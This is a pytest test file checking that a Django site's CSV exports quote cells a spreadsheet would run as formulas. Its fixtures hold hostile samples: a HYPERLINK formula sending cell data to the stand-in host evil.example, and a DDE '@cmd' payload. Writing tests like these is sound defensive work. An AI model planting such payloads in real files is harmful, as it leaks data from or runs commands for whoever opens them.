"""Issue 16, item 6: every CSV export neutralizes cells a spreadsheet would run as a
formula (OWASP: a leading =, +, -, @, tab or carriage return gets a single quote)."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from wsr.site.csv import FORMULA_STARTS, safe_cell

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Rosa", "Rosa"),
        ("", ""),
        (-3, -3),
        (Decimal("-2.5"), Decimal("-2.5")),
        (True, True),
        (None, None),
    ],
)
def test_safe_cell_quotes_formula_text_and_leaves_numbers_as_numbers(value, expected):
    assert safe_cell(value) == expected


def _attendees(site_tree):
    from datetime import timedelta

    from django.utils import timezone

    from repository import services
    from repository.models import EventIndexPage, EventPage
    from tests.members.factories import StaffFactory, member

    index = site_tree["en"].add_child(instance=EventIndexPage(title="Events", slug="events"))
    starts = timezone.now() + timedelta(days=3)
    event = EventPage(
        title="Exchange",
        summary="s",
        kind="exchange",
        format="hybrid",
        place="Immokalee",
        starts_at=starts,
        ends_at=starts + timedelta(hours=1),
        time_zone="UTC",
        audience="members",
    )
    index.add_child(instance=event)
    person = member()
    person.profile.display_name = HOSTILE
    person.profile.save()
    organization = person.affiliations.get().organization
    type(organization).objects.filter(pk=organization.pk).update(name="+SUM(1,2)")
    services.event_register(event=event, user=person)
    return reverse("repository:event-attendees", args=[event.pk]), StaffFactory()


def _assistance_report(site_tree):
    from tests.assistance.factories import case
    from tests.members.factories import StaffFactory
    from wsr.members.models import Sector

    case(sector=Sector.objects.create(slug="hostile", name=HOSTILE))
    return reverse("assistance:reports-csv"), StaffFactory()


def _published_assessment():
    from assistance.models import CriterionScore, Initiative
    from tests.assistance.registry import assessment_at, cast

    people = cast()
    assessment = assessment_at("published", people)
    Initiative.objects.filter(pk=people["initiative"].pk).update(name=HOSTILE)
    CriterionScore.objects.filter(assessment=assessment).update(rationale="@cmd|' /C calc'!A0")
    return people["initiative"].slug, assessment


def _scorecard(site_tree):
    slug, assessment = _published_assessment()
    return f"/initiatives/{slug}/scorecards/{assessment.pk}.csv", None


def _registry(site_tree):
    _published_assessment()
    return "/initiatives/scorecards.csv", None


def _verified_figures():
    """A listed initiative named like a formula with verified figures whose narrative and
    source note are formulas."""
    from assistance.models import Initiative
    from tests.assistance.registry import cast, verified_figures

    people = cast()
    verified_figures(people, 2022, narrative=HOSTILE, source_note="@cmd|' /C calc'!A0")
    Initiative.objects.filter(pk=people["initiative"].pk).update(name=HOSTILE)
    return people["initiative"]


def _figures(site_tree):
    initiative = _verified_figures()
    return reverse("assistance:figures-download", args=[initiative.slug, "csv"]), None


def _all_figures(site_tree):
    _verified_figures()
    return reverse("assistance:figures-download-all", args=["csv"]), None


def _figures_template(site_tree):
    """The blank template is its header only: column names the code makes, never a typed
    value, even with verified figures about (checked below: no row but the header)."""
    _verified_figures()
    return reverse("assistance:figures-template", args=["csv"]), None


def _wagtail_site_history(site_tree):
    from tests.members.factories import StaffFactory

    home = site_tree["en"]
    home.title = HOSTILE
    home.save_revision(log_action=True).publish()
    staff = StaffFactory(is_superuser=True)
    return "/cms/reports/site-history/?export=csv", staff


EXPORTS = {
    "repository:event-attendees": _attendees,
    "assistance:reports-csv": _assistance_report,
    "assistance:scorecard-download": _scorecard,
    "assistance:registry-download": _registry,
    "assistance:figures-download": _figures,
    "assistance:figures-download-all": _all_figures,
    "assistance:figures-template": _figures_template,
    "wagtail:site-history": _wagtail_site_history,
}

# Blank templates: a header the code writes and no row, so no typed value to neutralize.
HEADER_ONLY = {"assistance:figures-template"}


@pytest.mark.parametrize("name", EXPORTS)
def test_every_export_neutralizes_hostile_cells(client, site_tree, name):
    url, user = EXPORTS[name](site_tree)
    if user is not None:
        client.force_login(user)
    response = client.get(url)
    assert response.status_code == 200, name
    content = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    if name in HEADER_ONLY:
        assert len(rows) == 1 and not cells, name
        cells = rows[0]
    else:
        assert "'" + HOSTILE in cells or any("'@cmd" == c[:5] for c in cells), name
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], name


def test_no_module_writes_csv_without_the_helper():
    """A new `csv.writer(` or `csv.DictWriter(` outside wsr/site/csv.py fails here: use
    `wsr.site.csv.writer` / `dict_writer`."""
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in (
            "wsr",
            "assistance",
            "coordination",
            "promotion",
            "repository",
            "notifications",
        )
        for path in (ROOT / folder).rglob("*.py")
        if path != ROOT / "wsr" / "site" / "csv.py" and pattern.search(path.read_text())
    ]
    assert offenders == []


def test_every_csv_url_is_in_the_hostile_export_test():
    """Each URL of ours whose path says CSV is exported above with hostile values."""
    from wsr.site.urlwalk import walk

    csv_urls = {route.name for route in walk() if "csv" in route.pattern and route.name}
    assert csv_urls <= set(EXPORTS), csv_urls - set(EXPORTS)
